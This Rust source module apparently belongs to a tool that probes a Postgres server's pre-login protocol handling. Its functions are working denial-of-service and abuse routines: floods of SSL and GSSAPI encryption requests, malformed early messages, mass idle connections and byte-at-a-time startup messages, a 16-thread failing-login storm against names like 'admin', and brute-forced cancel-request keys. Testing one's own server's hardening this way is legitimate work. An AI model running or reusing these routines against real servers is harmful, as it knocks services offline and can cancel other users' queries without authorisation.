//! The Postgres protocol before login.

use std::time::Duration;

use super::on_threads;
use crate::answers::{CLOSED, ServerAnswer};
use crate::attack::AttackRun;
use crate::dial::{RUDE, reset_on_close};
use crate::native::lost;
use crate::postgres::{CANCEL_REQUEST, GSSENC_REQUEST, Postgres, SSL_REQUEST, framed, startup, untyped};

/// Requests for encryption in one write.
const AT_ONCE: usize = 4_096;
/// Connections held, as many as the listener accepts.
const HELD: usize = 1_024;
/// Threads that log in or send cancel requests.
const STORMERS: usize = 16;

/// Requests GSSAPI encryption without end.
pub(crate) fn gssenc(run: &AttackRun) -> Result<(), ServerAnswer> {
    encryption(run, GSSENC_REQUEST)
}

/// Requests TLS without end.
pub(crate) fn tls(run: &AttackRun) -> Result<(), ServerAnswer> {
    encryption(run, SSL_REQUEST)
}

fn encryption(run: &AttackRun, code: i32) -> Result<(), ServerAnswer> {
    while run.round() {
        let mut postgres = Postgres::open(&run.target, RUDE)?;
        let requests = untyped(code, &[]).repeat(AT_ONCE);
        let mut sends = postgres.stream.try_clone().map_err(|error| lost(&error))?;
        std::thread::scope(|scope| {
            scope.spawn(move || {
                use std::io::Write;
                while run.round() && sends.write_all(&requests).is_ok() {}
                drop(sends.shutdown(std::net::Shutdown::Write));
            });
            let mut declined = 0u64;
            let mut byte = [0];
            let end = loop {
                match postgres.read(&mut byte) {
                    Ok(()) if byte == *b"N" => declined += 1,
                    Ok(()) => break ServerAnswer::new("FATAL"),
                    Err(answer) => break answer,
                }
                // A hardened server declines a few times and closes the connection.
                if declined > 100_000 {
                    break ServerAnswer::new("declined for ever");
                }
            };
            run.record(end);
            drop(postgres.stream.shutdown(std::net::Shutdown::Both));
        });
    }
    Ok(())
}

/// Sends messages of a session before login, with and without a body.
pub(crate) fn early_messages(run: &AttackRun) -> Result<(), ServerAnswer> {
    let kinds = *b"DECPBQSHXFdcf\0~";
    for n in 0.. {
        if !run.round() {
            break;
        }
        let mut postgres = Postgres::open(&run.target, RUDE)?;
        reset_on_close(&postgres.stream).map_err(|error| lost(&error))?;
        postgres.send(&startup("nobody"))?;
        let body: &[u8] = if n < kinds.len() { b"" } else { b"\xFF\xFF\xFF\xFF" };
        postgres.send(&framed(kinds[n % kinds.len()], body))?;
        // The server may first request a password.
        let answer = loop {
            match postgres.message() {
                Ok(message) => match message.answer() {
                    Some(answer) => break answer,
                    None => continue,
                },
                Err(answer) => break answer,
            }
        };
        // Terminate ends a connection without an answer.
        let terminated = kinds[n % kinds.len()] == b'X' && answer.label == CLOSED;
        run.record(if terminated { ServerAnswer::error("08P01", "") } else { answer });
    }
    Ok(())
}

/// Opens connections and sends nothing.
pub(crate) fn idle(run: &AttackRun) -> Result<(), ServerAnswer> {
    let mut held = Vec::new();
    while run.round() && held.len() < HELD {
        match Postgres::open(&run.target, RUDE) {
            Ok(postgres) => held.push(postgres),
            Err(answer) => run.record(answer),
        }
    }
    run.hold(|| {});
    Ok(())
}

/// Sends startup messages one byte at a time.
pub(crate) fn half_startup(run: &AttackRun) -> Result<(), ServerAnswer> {
    let mut held = Vec::new();
    while run.round() && held.len() < HELD / 4 {
        let mut postgres = Postgres::open(&run.target, RUDE)?;
        // A length of 9,000 bytes and protocol 3.0.
        let _ = postgres.send(&[0, 0, 0x23, 0x28, 0, 3, 0, 0]);
        held.push(postgres);
    }
    run.hold(|| held.retain_mut(|postgres| postgres.send(b"x").is_ok()));
    Ok(())
}

/// Sends as many failing logins as the server accepts.
pub(crate) fn login_storm(run: &AttackRun) -> Result<(), ServerAnswer> {
    on_threads(STORMERS, |thread| {
        while run.round() {
            let outcome = Postgres::open(&run.target, RUDE).and_then(|mut postgres| {
                reset_on_close(&postgres.stream).map_err(|error| lost(&error))?;
                postgres.log_in(["admin", "stormed", "nowhere"][thread % 3], "wrong")?;
                Ok(ServerAnswer::new("logged in"))
            });
            run.count(outcome);
        }
        Ok(())
    })
}

/// Sends cancel requests with guessed secrets.
pub(crate) fn cancel_storm(run: &AttackRun) -> Result<(), ServerAnswer> {
    on_threads(STORMERS, |thread| {
        for guess in 0u64.. {
            if !run.round() {
                break;
            }
            let patience = Duration::from_secs(5);
            let outcome = Postgres::open_for(&run.target, RUDE, patience).and_then(|mut postgres| {
                reset_on_close(&postgres.stream).map_err(|error| lost(&error))?;
                let key = (guess * STORMERS as u64 + thread as u64).to_be_bytes();
                postgres.send(&untyped(CANCEL_REQUEST, &key))?;
                postgres
                    .message()
                    .map(|message| ServerAnswer::new(format!("message {}", message.kind as char)))
            });
            run.count(outcome);
        }
        Ok(())
    })
}
